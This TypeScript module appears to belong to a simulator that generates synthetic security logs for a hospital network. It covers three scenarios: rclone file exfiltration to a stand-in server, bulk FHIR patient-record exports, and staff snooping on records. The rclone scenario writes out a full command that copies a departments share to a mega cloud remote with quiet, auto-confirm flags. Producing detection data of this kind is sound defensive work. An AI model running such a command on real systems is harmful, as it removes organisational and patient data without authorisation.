/** Taking data out: files to a rented server, records in bulk, records one by one out of curiosity. */
import { z } from 'zod';
import type { Burst } from '../burst.ts';
import { patientIn } from '../ordinary/life.ts';
import { auditEvent } from '../shapes/fhir.ts';
import { firewallSession, suricataAlert } from '../shapes/perimeter.ts';
import { programs } from '../shapes/programs.ts';
import { connection, dnsQuery, fileCreated } from '../shapes/windows.ts';
import { conn, conversation, dns, ordinaryCertificate, ssl } from '../shapes/zeek.ts';
import { Duration } from '../words.ts';
import { behaviour, implantOn, Part, penOf, type } from './stage.ts';

/** A file copier meant for cloud storage, renamed, sending what the file servers held. */
export const exfil = behaviour({
  params: z.strictObject({
    on: Part,
    to: z.string().regex(/^[a-z0-9.-]+\.example$/, 'a name ending in .example'),
    address: z.string().regex(/^203\.0\.113\.\d{1,3}$/, 'an address in 203.0.113.0/24'),
    gigabytes: z.number().positive().max(5000),
    connections: z.number().int().min(1).max(500).default(24),
    over: Duration,
  }),
  parts: (p) => [p.on],
  *run(stage, { on, to, address, gigabytes, connections, over }): Generator<Burst, void, undefined> {
    const { host } = stage.player(on);
    const implant = implantOn(stage, stage.player(on));
    const { random } = stage;
    const first = penOf(stage);
    first.add(
      4000,
      fileCreated(implant, programs.rclone.image),
      fileCreated(implant, 'C:\\ProgramData\\rclone.conf'),
    );
    const tool = type(
      stage,
      first,
      implant,
      programs.rclone,
      `${programs.rclone.image} copy "\\\\127.0.0.1\\departments$" mega:archive --config C:\\ProgramData\\rclone.conf --max-age 3y --multi-thread-streams 12 --transfers 12 -q --ignore-existing --auto-confirm`,
    );
    const query = conversation(host, stage.cast.controllers[0]!.ip, 53, random);
    first.add(20, dnsQuery(tool, to, address), dns(query, to, [address], random));
    yield first;
    const wall = stage.cast.hosts.find((each) => each.asset.kind === 'firewall');
    const share = (gigabytes * 1e9) / connections;
    for (let i = 0; i < connections; i++) {
      const pen = penOf(stage, stage.at + 10_000 + (i * (over - 10_000)) / connections);
      const talk = conversation(host, address, 443, random);
      const volume = {
        sent: Math.round(share * (0.8 + random.next() * 0.4)),
        received: random.int(900_000, 4_000_000),
        duration: over / connections / 1000,
      };
      if (i === 0) pen.add(20, connection(tool, { ip: address, port: 443, name: to }, talk.fromPort));
      pen.add(30, ssl(talk, to, ordinaryCertificate(to)));
      if (i === 0) {
        pen.add(
          30,
          suricataAlert(
            talk,
            {
              id: 2034567,
              text: 'ET POLICY Rclone cloud storage transfer observed',
              category: 'Potential Corporate Privacy Violation',
              severity: 1,
            },
            'tls',
            { tls: { sni: to } },
          ),
        );
      }
      pen.add(30, conn(talk, 'ssl', volume));
      if (wall) pen.add(10, firewallSession(wall.fqdn, talk, 'allow', 'web-out', volume));
      yield pen;
    }
  },
});

/** Records taken by the interface's own bulk export, or by one search after another. */
export const recordExport = behaviour({
  params: z.strictObject({
    from: Part,
    as: Part,
    records: z.number().int().min(1).max(5_000_000),
    requests: z.number().int().min(1).max(500).default(6),
    over: Duration.default(900_000),
  }),
  parts: (p) => [p.from, p.as],
  *run(stage, { from, as, records, requests, over }): Generator<Burst, void, undefined> {
    const { host } = stage.player(from);
    const { who } = stage.player(as);
    for (let i = 0; i < requests; i++) {
      const pen = penOf(stage, stage.at + (i * over) / requests);
      const operation =
        i === 0
          ? 'Patient/$export'
          : `Group/all-patients/$export?_type=${stage.random.pick(['Observation', 'DocumentReference', 'Condition'])}`;
      yield pen.add(
        100,
        auditEvent(
          stage.cast,
          {
            who,
            host,
            patient: null,
            resource: 'Patient',
            action: 'operation',
            purpose: 'HOPERAT',
            operation,
            count: Math.ceil(records / requests),
          },
          stage.random,
        ),
      );
    }
  },
});

/** One person reads the records of colleagues and of patients on wards they have nothing to do with. */
export const recordSnooping = behaviour({
  params: z.strictObject({
    on: Part,
    of: z.enum(['colleagues', 'other-wards']),
    records: z.number().int().min(1).max(5000),
    over: Duration,
  }),
  parts: (p) => [p.on],
  *run(stage, { on, of, records, over }): Generator<Burst, void, undefined> {
    const { host, who } = stage.player(on);
    const { random, cast } = stage;
    const elsewhere = cast.wards.filter((ward) => ward !== host.asset.location);
    for (let i = 0; i < records; i++) {
      const at = stage.at + ((i + random.next() * 0.7) * over) / records;
      const ward = random.pick(elsewhere.length > 0 ? elsewhere : cast.wards);
      const patient = { ...patientIn(ward, random.int(1, 24), at), colleague: of === 'colleagues' };
      const pen = penOf(stage, at);
      for (const resource of ['Patient', 'DocumentReference'] as const) {
        pen.add(
          9000,
          auditEvent(
            cast,
            { who, host, patient, resource, action: 'read', purpose: of === 'colleagues' ? 'BTG' : 'TREAT' },
            random,
          ),
        );
      }
      yield pen;
    }
  },
});
